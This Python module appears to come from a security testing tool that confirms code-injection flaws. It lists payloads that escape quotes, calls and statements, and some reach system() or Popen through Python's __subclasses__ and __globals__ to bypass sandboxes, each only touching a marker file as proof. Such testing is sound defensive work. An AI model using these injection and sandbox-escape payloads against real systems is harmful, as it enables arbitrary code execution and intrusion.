"""Python code: whoever can run some can leave a file behind; what runs a template runs its expressions."""

from __future__ import annotations

import re

from buckler.finding.evidence import ProofKind
from buckler.prove.model import Attack, Oracle, Probe, SinkContext, always, filled
from buckler.prove.watches import MARKER
from buckler.weaknesses.injection.templates import TEMPLATE

MAKE = "__import__('pathlib').Path('{marker}').touch()"
ATTACKS = filled(
    (MAKE, "an expression"),
    (f"'+str({MAKE})+'", "leaves a string in single quotes"),
    (f'"+str({MAKE.replace(chr(39), chr(34))})+"', "leaves a string in double quotes"),
    (f"1)\n{MAKE}\n(1", "leaves a call"),
    (f"0\n{MAKE}", "a second statement"),
    (f"0;{MAKE}", "another statement on the same line"),
    (f"') or {MAKE} or ('", "leaves a quoted argument"),
    (
        "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='Popen'][0](['touch','{marker}']).wait()",
        "without any global name",
    ),
    (
        (
            "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='_wrap_close'][0]"
            ".__init__.__globals__['system']('touch {marker}')"
        ),
        "by the globals of a class of the library",
    ),
    (
        (
            "a: str([x for x in ().__class__.__base__.__subclasses__() if x.__name__=='_wrap_close'][0]"
            ".__init__.__globals__['system']('touch {marker}'))"
        ),
        "in a call, as a value of a document",
    ),
    (f"a: {MAKE}", "a value of a document"),
    (f"{{{{{MAKE}}}}}", "in braces of a format string"),
    (f"__class__, {MAKE}, x", "completes an attribute and goes on"),
)
COMPUTES = re.compile(
    r"calc|comput|evaluat|expr(?![a-z])|expression|formula|equation|arithmetic|math|(?<![a-z])sums?(?![a-z])", re.I
)
"""Names of what is there to compute."""


def values(situation: SinkContext) -> list[Attack]:
    """Numbers; where the names say that something is computed, what people let compute."""
    around = f"{situation.function} {situation.code} {situation.approach.entry}"
    sums = [Attack(repr(text), "a sum") for text in ("1 + 2", "7 * 3 - 4")] if COMPUTES.search(around) else []
    return [*sums, Attack(repr("7"), "a number"), Attack(repr("report"), "a word")]


CODE = Oracle(
    ProofKind.EXPLOIT,
    "Python code of the attacker's choice was run",
    Probe(MARKER),
    ATTACKS,
    values,
    domain="[1-9][0-9]{0,4}",
)
PROOF = always(CODE, TEMPLATE)
